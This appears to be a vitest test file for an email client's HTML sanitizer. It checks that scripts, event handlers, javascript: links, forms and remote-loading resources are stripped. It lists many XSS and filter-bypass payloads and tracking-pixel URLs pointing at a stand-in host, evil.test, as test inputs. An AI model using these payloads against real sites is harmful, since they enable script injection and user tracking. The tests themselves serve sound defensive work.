import { describe, expect, it } from 'vitest'
import { isTooDeep, shownHtml } from './mail-html.ts'
import { textOfHtml } from './mail-text.ts'
import showMail from './show-mail.task.ts'

const show = (html: string, withRemote = false, pictures = new Map<string, string>()) =>
  shownHtml(html, { pictures, withRemote })

describe('the HTML of a message', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<body onload=alert(1)><p onclick="alert(1)">x</p></body>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">y</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src=x>',
    '<style></style><img src=x onerror=alert(1)></style>',
    '<style>x{}</style ><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
  ])('runs no code: %s', (html) => {
    for (const withRemote of [false, true]) {
      const { body, style } = show(html, withRemote)
      expect(body).not.toMatch(/<script|\son\w+\s*=|javascript:|<svg|<iframe|svg\+xml|<meta/i)
      expect(style).not.toContain('<')
    }
  })

  it('has no fields and sends nothing anywhere', () => {
    const { body } = show(
      '<form action="https://evil.test"><input name=p><button>Go</button><select><option>a</select></form>Hi',
    )
    expect(body).toBe('Hi')
  })

  it.each([
    '<img src="https://evil.test/p.gif">',
    '<img src="http://evil.test/p.gif">',
    '<img src="//evil.test/p.gif">',
    '<img src=" https://evil.test/p.gif">',
    '<img srcset="https://evil.test/p.gif 2x">',
    '<table background="https://evil.test/p.gif"><tr><td background="//evil.test">x</table>',
    '<div style="background:url(https://evil.test/x)">x</div>',
    '<div style="background:u\\72l(//evil.test)">x</div>',
    '<div style="background-image:image-set(\'https://evil.test/x\' 1x)">x</div>',
    '<style>@import url(//evil.test/x.css); p{background:url(https://evil.test)}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.test)}</style>',
    '<link rel=stylesheet href=//evil.test/x.css><base href=//evil.test/>',
    '<video src="https://evil.test" poster="https://evil.test"></video><audio src=//evil.test>',
    '<link rel=preconnect href=https://evil.test><link rel=dns-prefetch href=//evil.test>',
  ])('loads nothing from elsewhere: %s', (html) => {
    const { body, style } = show(html)
    expect(body + style).not.toContain('evil.test')
  })

  it('loads pictures when asked to, and counts them before', () => {
    const html = '<img src="https://a.test/1.png" alt="One"><img src="//a.test/2.png"><img src="x">'
    expect(show(html)).toMatchObject({ body: '<img alt="One"><img><img>', remotePictures: 2 })
    expect(show(html, true)).toMatchObject({
      body: '<img alt="One" src="https://a.test/1.png"><img src="https://a.test/2.png"><img>',
      remotePictures: 2,
    })
  })

  it('shows pictures of the message itself', () => {
    const data = 'data:image/png;base64,AAAA'
    const pictures = new Map([['logo@x', data]])
    expect(show('<img src="cid:LOGO%40x"><img src="cid:none">', false, pictures)).toMatchObject({
      body: `<img src="${data}"><img>`,
      remotePictures: 0,
    })
    expect(show(`<img src="${data}">`).body).toBe(`<img src="${data}">`)
  })

  it('opens links of the web in a page of their own, and no others', () => {
    const rel = 'target="_blank" rel="noopener noreferrer nofollow"'
    expect(show('<a href="https://a.test/?a=1&amp;b" target=_top>x</a>').body).toBe(
      `<a href="https://a.test/?a=1&amp;b" ${rel}>x</a>`,
    )
    expect(show('<a href="/mailbox">a</a><a href="//a.test">b</a><a href="#c">c</a>').body).toBe(
      '<a>a</a><a>b</a><a>c</a>',
    )
  })

  it('keeps the look that senders give it', () => {
    const { body, style } = show(
      '<style><!-- .a > p { color: red } --></style><body bgcolor="#eee"><p class="a" style="margin:0;behavior:url(x)"><font color=blue>x</font></p>',
    )
    expect(style).toContain('color: red')
    expect(body).toBe(
      '<div bgcolor="#eee"><p class="a" style="margin: 0;"><font color="blue">x</font></p></div>',
    )
  })

  it('is shown as its text where tags are nested without end', async () => {
    const html = `${'<div>'.repeat(50_000)}deep`
    const { page } = await showMail({
      raw: Buffer.from(`Content-Type: text/html\r\n\r\n${html}`),
      withRemote: false,
    })
    expect(page).toContain('<pre>deep</pre>')
    expect(page).not.toContain('<div>')
  })

  it('is shown as it is with many elements that end or need no end', () => {
    expect(isTooDeep('<p>a<br><div>b</div>'.repeat(10_000))).toBe(false)
    expect(isTooDeep('<div>'.repeat(3000))).toBe(true)
  })
})

describe('the text of HTML', () => {
  it('has the lines of the blocks, and no style', () => {
    const html =
      '<head><title>T</title><style>p{}</style></head><p>One &amp;  two<br>three</p>\n<ul><li>a</li><li>b</li></ul><script>x</script>'
    expect(textOfHtml(html)).toBe('One & two\nthree\n\n- a\n- b')
  })

  it('names where links lead unless their text says it', () => {
    expect(textOfHtml('<a href="https://a.test/x">here</a>')).toBe('here <https://a.test/x>')
    expect(textOfHtml('<a href="https://a.test/x">https://a.test/x</a>')).toBe('https://a.test/x')
  })
})
